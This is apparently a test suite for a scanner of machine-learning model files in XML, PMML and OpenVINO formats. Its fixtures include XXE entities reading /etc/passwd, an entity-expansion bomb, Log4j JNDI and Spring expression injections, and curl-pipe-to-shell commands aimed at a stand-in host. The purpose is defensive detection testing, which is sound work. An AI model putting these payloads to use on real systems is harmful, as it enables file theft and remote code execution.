import { run, utf8 } from '../../../testing';
import { scan } from '../../..';
import { MemorySource } from '../../../bytes/memory';
import type { ScanReport } from '../../../report';

const scanText = (text: string, name: string, beside?: Record<string, Uint8Array>): ScanReport =>
  scan(new MemorySource(new TextEncoder().encode(text)), name, {
    beside: beside && {
      module: () => undefined,
      open: (file, look) => {
        const bytes = beside[file];
        if (bytes !== undefined) {
          look(new MemorySource(bytes));
        }
        return bytes !== undefined;
      }
    }
  });
const told = (report: ScanReport): string[] =>
  report.findings.map(({ severity, rule, evidence }) => `${severity} ${rule} ${evidence}`);
const net = (layer: string): string =>
  `<?xml version="1.0"?>\n<net name="m" version="11"><layers>${layer}</layers></net>`;
const CONST =
  '<layer id="0" name="c" type="Const" version="opset1"><data element_type="f32" offset="8" shape="2" size="8"/></layer>';

test.each<[string, string, string]>([
  [
    'a.pmml',
    '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>',
    'HIGH xml-external file:///etc/passwd'
  ],
  ['a.pmml', '<!DOCTYPE PMML [<!-- ]> --><!ENTITY x PUBLIC "p" "http://e/">]><PMML/>', 'HIGH xml-external http://e/'],
  ['a.pmml', '<!DOCTYPE PMML SYSTEM "http://e/x.dtd"><PMML/>', 'HIGH xml-external http://e/x.dtd'],
  ['a.xml', '<!DOCTYPE r [<!ENTITY % d SYSTEM "http://e/x.dtd"> %d;]><r/>', 'HIGH xml-external http://e/x.dtd'],
  [
    'a.xml',
    `<!DOCTYPE net [<!ENTITY % a "<!ENTITY b SYSTEM 'file:///etc/passwd'>">%a;]><net name="x" version="11">&b;</net>`,
    'HIGH xml-external file:///etc/passwd'
  ],
  [
    'a.pmml',
    `<!DOCTYPE PMML [<!ENTITY % a "&#60;!ENTITY b PUBLIC 'p' 'http://e/'>">%a;]><PMML>&b;</PMML>`,
    'HIGH xml-external http://e/'
  ],
  [
    'a.xml',
    '<?xml version="1.0"?><a xmlns:xi="x"><xi:include href="file:///etc/passwd"/></a>',
    'MEDIUM xml-external file:///etc/passwd'
  ],
  ['a.xml', '<?xml version="1.0" encoding="UTF-7"?>+ADw-r/+AD4-', 'MEDIUM xml-hidden-markup UTF-7'],
  ['a.pmml', '<PMML><Extension name="x" value="__import__(\'os\').system(\'id\')"/></PMML>', 'MEDIUM pmml-code'],
  ['a.pmml', '<PMML><Extension><script src="x"/></Extension></PMML>', 'HIGH pmml-code x'],
  ['a.pmml', '<PMML><Apply function="java.lang.Runtime"/></PMML>', 'MEDIUM pmml-code java.lang.Runtime'],
  [
    'a.xml',
    net('<layer id="0" name="a" type="Evil" version="extension"/>'),
    'MEDIUM openvino-library Evil (extension)'
  ],
  [
    'a.xml',
    net('<layer id="0" name="a" type="Add" version="opset1" library="/tmp/e.so"/>'),
    'HIGH openvino-library /tmp/e.so'
  ],
  ['a.xml', net(CONST.replace('"8"', '"-8"')), 'MEDIUM openvino-weights -8 | 8']
])('%s %j', (name, text, expected) => {
  expect(told(scanText(text, name))).toEqual(expect.arrayContaining([expect.stringContaining(expected)]));
});

test.each<[string, string]>([
  ['a.pmml', '<PMML><Header><python>x</python></Header></PMML>'],
  ['a.pmml', '<PMML><Extension>import os; os.remove("x")</Extension></PMML>'],
  ['a.pmml', '<PMML xmlns:x="y" x:schemaLocation="http://www.dmg.org/PMML-4_4 http://e.com/a.xsd"/>'],
  ['a.pmml', '<PMML><Model><Value>file:///etc/passwd</Value></Model></PMML>'],
  ['a.pmml', '<PMML><Header><Annotation>curl http://e/x | sh</Annotation></Header></PMML>'],
  ['a.pmml', '<PMML><Header><Application name="$(curl http://e | sh)"/></Header></PMML>'],
  ['a.pmml', '<PMML><Extension value="http://e.example/payload.sh"/></PMML>'],
  ['a.pmml', '<PMML><Extension value="jdbc:mysql://e/db"/></PMML>'],
  ['a.xml', net('<layer id="0" name="a" type="RunShell" version="opset1"/>')],
  [
    'a.xml',
    net('<layer id="0" name="a" type="Add" version="opset1"><data x="https://e.example/p.so?token=1"/></layer>')
  ],
  ['a.xml', net('<note>import os; os.system("id")</note>')],
  ['a.xml', net('<layer id="0" name="a" type="Add" version="opset1" expr="eval(x)"/>')]
])('%s %j is unsafe', (name, text) => {
  expect(scanText(text, name).verdict).toBe('unsafe');
});

test('declarations in an entity that fetch nothing are none', () => {
  const inner = `<!ENTITY % a "<!ENTITY b 'text'><!ELEMENT PMML ANY>">%a;<!ENTITY c "&lt;!ENTITY x SYSTEM 'y'>">`;
  expect(told(scanText(`<!DOCTYPE PMML [${inner}]><PMML>&b;</PMML>`, 'a.pmml'))).toEqual([]);
});

test('entities that multiply are a finding', () => {
  const entities = Array.from({ length: 9 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`);
  const text = `<!DOCTYPE r [<!ENTITY e0 "lol">${entities.join('')}]><r>&e9;</r>`;
  expect(told(scanText(text, 'a.xml'))).toEqual([expect.stringContaining('MEDIUM xml-expansion')]);
});

test.each([
  [
    'a.pmml',
    '<?xml version="1.0"?>\n<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header copyright="x"><Application name="JPMML-SkLearn"/></Header></PMML>'
  ],
  ['a.xml', net(CONST)],
  ['a.xml', net('<layer id="0" name="t" type="RegexNormalization" version="extension"/>')],
  ['a.xml', '<?xml version="1.0"?><opencv_storage><c type_id="opencv-cascade-classifier">1 2</c></opencv_storage>'],
  [
    'a.xml',
    '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>'
  ]
])('%s %j is clean', (name, text) => {
  expect(scanText(text, name)).toMatchObject({ verdict: 'clean', findings: [], format: 'xml' });
});

test('weights of OpenVINO end where their file does', () => {
  const xml = net(CONST);
  expect(scanText(xml, 'm.xml', { 'm.bin': new Uint8Array(16) }).verdict).toBe('clean');
  expect(told(scanText(xml, 'm.xml', { 'm.bin': new Uint8Array(12) }))).toEqual(['MEDIUM openvino-weights 16 | 12']);
});

test('the file of weights beside a description is known', () => {
  const weights = Uint8Array.from({ length: 16 }, (_, i) => i + 130);
  const beside = (size: number): unknown =>
    scan(new MemorySource(weights), 'm.bin', {
      beside: {
        module: () => undefined,
        open: (_, look) => {
          look(new MemorySource(new TextEncoder().encode(net(CONST.replace('size="8"', `size="${size}"`)))));
          return true;
        }
      }
    }).coverage;
  expect(beside(8)).toMatchObject([{ status: 'inert', reason: 'weights-of' }]);
  expect(beside(9)).toMatchObject([{ status: 'not-understood' }]);
});

test('what is not well-formed was not read', () => {
  expect(scanText('<?xml version="1.0"?><a><b></a>', 'a.xml').coverage).toMatchObject([
    { status: 'failed', reason: 'corrupt' }
  ]);
});

test('a row of comments is read in one way only', () => {
  const comments = '<!-- a -->\n'.repeat(200);
  expect(scanText(`${comments}<!ENTITY a "b">`, 'a.ent').verdict).not.toBe('unsafe');
  expect(told(scanText(`${comments}<PMML><Apply function="java.lang.Runtime"/></PMML>`, 'a.pmml'))).toEqual([
    expect.stringContaining('pmml-code')
  ]);
});

test('weights behind a link that leaves the folder', () => {
  const beside = { module: () => undefined, leadsTo: (path: string) => (path === 'm.bin' ? '/etc/passwd' : undefined) };
  const { findings } = run(utf8(net('<layer id="0" name="a" type="Add" version="opset1"/>')), { beside }, 'm.xml');
  expect(findings.map(({ severity, rule, evidence }) => `${severity} ${rule} ${evidence}`)).toEqual([
    'HIGH model-external-path m.bin -> /etc/passwd'
  ]);
});

test.each([
  ['references for its characters', '<object class="a"><string>java.lang.Proc&#101;ssBuilder</string></object>'],
  ['a comment in it', '<object><string>java.lang.Proc<!-- x -->essBuilder</string></object>'],
  ['a section of data', '<object><string><![CDATA[java.lang.ProcessBuilder]]></string></object>'],
  ['a look-up of Log4j', '<Configuration><PatternLayout pattern="${jndi:ldap://localhost/x}"/></Configuration>'],
  ['one of Logback', '<configuration><insertFromJNDI env-entry-name="ldap://localhost/x" as="y"/></configuration>'],
  [
    'an expression of Spring',
    '<bean class="x.Y"><property value="#{T(java.lang.Runtime).getRuntime().exec(1)}"/></bean>'
  ],
  ['a pool that looks up', '<a><pool class="com.zaxxer.hikari.HikariDataSource"/></a>']
])('a class in XML, with %s', (_, text) => {
  expect(told(scanText(text, 'a.xml')).join()).toContain('HIGH config-target');
});
